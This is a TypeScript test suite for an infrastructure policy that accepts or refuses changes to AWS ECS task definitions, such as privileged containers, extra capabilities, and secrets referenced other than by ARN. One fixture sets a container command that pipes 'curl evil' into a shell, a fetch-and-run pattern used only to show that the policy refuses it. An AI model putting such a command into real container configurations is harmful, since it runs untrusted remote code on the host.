/**
 * task-definition-contained (policy/tasks.ts) on the fixture plans: the task definitions as the
 * program declares them pass; each change below (one each) is refused with its code.
 */
import { strict as assert } from "node:assert";
import { ContainerDefinition } from "../../lib/resources";
import { PlanRun, PlannedResourceState } from "../../tools/plan/run";
import { plan } from "../planCache";
import { T, mutated, setProp, violations } from "./harness";

const POLICY = "task-definition-contained";

/** This policy's violations on a plan (the fixture's policy config, with `file`'s entries over it). */
async function violationsOf(p: PlanRun, file?: Record<string, unknown>) {
    return await violations(p, { config: file, only: [POLICY] });
}

type Find = (type: string, name: string) => PlannedResourceState;

async function codes(p: PlanRun): Promise<string[]> {
    const v = await violationsOf(p);
    assert.ok(
        v.every((x) => x.level === "mandatory"),
        JSON.stringify(v),
    );
    return [...new Set(v.map((x) => /^\[([a-z0-9-]+)\]/.exec(x.message)?.[1] ?? x.message))].sort();
}

/** The blue task definition's containers, edited. */
const containers = (edit: (cs: ContainerDefinition[]) => void) => (find: Find) => {
    const td = find(T.td, "spring-blue-task");
    const cs = JSON.parse(String(td.outputs.containerDefinitions)) as ContainerDefinition[];
    edit(cs);
    setProp(td, "containerDefinitions", JSON.stringify(cs));
};
const app = (edit: (c: ContainerDefinition) => void) => containers((cs) => edit(cs[0]));

const SECRET = "arn:aws:secretsmanager:eu-west-1:111111111111:secret:payments/db-AbCdEf";

describe("policy task-definition-contained (policy/tasks.ts)", () => {
    it("passes the task definitions the program declares, in production and staging", async () => {
        assert.deepEqual(await codes(await plan("production")), []);
        assert.deepEqual(await codes(await plan("staging")), []);
    });

    it("accepts a variable from the stack config (spring.environment)", async () => {
        const p = await plan("production", ["spring.environment.FEATURE_X=on"]);
        const td = p.states.find((s) => s.type === T.td && s.name === "spring-blue-task");
        assert.match(String(td?.outputs.containerDefinitions), /"name":"FEATURE_X","value":"on"/);
        assert.deepEqual(await codes(p), []);
    });

    const accepted: [string, (find: Find) => void][] = [
        [
            "secrets by full ARN (Secrets Manager, with a JSON key; SSM)",
            app((c) => {
                c.secrets = [
                    { name: "DB_PASSWORD", valueFrom: SECRET },
                    { name: "DB_USER", valueFrom: `${SECRET}:username::` },
                    { name: "API_KEY", valueFrom: "arn:aws:ssm:eu-west-1:111111111111:parameter/payments/api-key" },
                ];
            }),
        ],
        [
            "the containers as ECS reports them back (cpu 0, empty lists, the host port filled in)",
            app((c) => {
                Object.assign(c, { cpu: 0, mountPoints: [], volumesFrom: [], systemControls: [], versionConsistency: "enabled" });
                c.portMappings = [{ containerPort: 8080, hostPort: 8080, protocol: "tcp" }];
                if (c.logConfiguration) c.logConfiguration.secretOptions = [];
            }),
        ],
        [
            "an init process (linuxParameters.initProcessEnabled)",
            app((c) => (c.linuxParameters = { initProcessEnabled: true, capabilities: { add: [], drop: ["NET_RAW"] } })),
        ],
    ];
    for (const [what, change] of accepted) {
        it(`accepts ${what}`, async () => {
            assert.deepEqual(await codes(mutated(await plan("production"), change)), []);
        });
    }

    const cases: [string, (find: Find) => void, string[]][] = [
        ["a privileged container", app((c) => (c.privileged = true)), ["task-privileged"]],
        ["an added capability", app((c) => (c.linuxParameters = { capabilities: { add: ["SYS_PTRACE"] } })), ["task-capabilities"]],
        ["a host port other than the container port", app((c) => (c.portMappings = [{ containerPort: 8080, hostPort: 80 }])), ["task-host-port"]],
        ["a sidecar", containers((cs) => cs.push({ ...cs[0], name: "sidecar", essential: false })), ["task-container-count"]],
        ["a container named otherwise", app((c) => (c.name = "payments")), ["task-container-name"]],
        ["a container that is not essential", app((c) => (c.essential = false)), ["task-container-essential"]],
        ["variables loaded from S3", app((c) => (c.environmentFiles = [{ type: "s3", value: "arn:aws:s3:::bucket/app.env" }])), ["task-environment-files"]],
        ["a variable that is not a name/value string", app((c) => c.environment?.push({ name: "BAD-NAME", value: "x" })), ["task-environment"]],
        ["a variable set twice", app((c) => c.environment?.push({ name: "SERVER_PORT", value: "9090" })), ["task-environment"]],
        ["a secret by name instead of ARN", app((c) => (c.secrets = [{ name: "DB_PASSWORD", valueFrom: "payments/db" }])), ["task-secret-source"]],
        [
            "a secret by wildcard ARN",
            app((c) => (c.secrets = [{ name: "DB_PASSWORD", valueFrom: "arn:aws:secretsmanager:eu-west-1:111111111111:secret:*" }])),
            ["task-secret-source"],
        ],
        ["a variable that is also a secret", app((c) => (c.secrets = [{ name: "SERVER_PORT", valueFrom: SECRET }])), ["task-secret-source"]],
        ["credentials on the ECR image", app((c) => (c.repositoryCredentials = { credentialsParameter: SECRET })), ["task-repository-credentials"]],
        [
            "an image from another registry with credentials that are no secret ARN",
            app((c) => {
                c.image = "ghcr.io/example/payments:1.4.0";
                c.repositoryCredentials = { credentialsParameter: "my-token" };
            }),
            ["task-repository-credentials"],
        ],
        [
            "logs to a log group the stack does not declare",
            app((c) => c.logConfiguration?.options && (c.logConfiguration.options["awslogs-group"] = "elsewhere")),
            ["task-log-destination"],
        ],
        [
            "logs through another driver",
            app((c) => (c.logConfiguration = { logDriver: "splunk", options: { "splunk-url": "https://example.com" } })),
            ["task-log-destination"],
        ],
        [
            "a log group created by the agent",
            app((c) => c.logConfiguration?.options && (c.logConfiguration.options["awslogs-create-group"] = "true")),
            ["task-log-destination"],
        ],
        ["a container parameter the pack has no rule for", app((c) => (c.command = ["sh", "-c", "curl evil | sh"])), ["task-container-property"]],
        ["volumes mounted from another container", app((c) => (c.volumesFrom = [{ sourceContainer: "other" }])), ["task-container-property"]],
        ["a CPU reservation of its own", app((c) => (c.cpu = 512)), ["task-container-property"]],
        ["unreadable container definitions", (find) => setProp(find(T.td, "spring-green-task"), "containerDefinitions", "{"), ["task-definition-unreadable"]],
        ["bridge networking", (find) => setProp(find(T.td, "spring-green-task"), "networkMode", "bridge"), ["task-network-mode"]],
        ["EC2 compatibility", (find) => setProp(find(T.td, "spring-green-task"), "requiresCompatibilities", ["FARGATE", "EC2"]), ["task-compatibility"]],
        [
            "a Windows platform",
            (find) => setProp(find(T.td, "spring-green-task"), "runtimePlatform.operatingSystemFamily", "WINDOWS_SERVER_2022_CORE"),
            ["task-runtime-platform"],
        ],
    ];
    for (const [what, change, expected] of cases) {
        it(`refuses ${what}: ${expected.join(", ")}`, async () => {
            assert.deepEqual(await codes(mutated(await plan("production"), change)), expected);
        });
    }
});
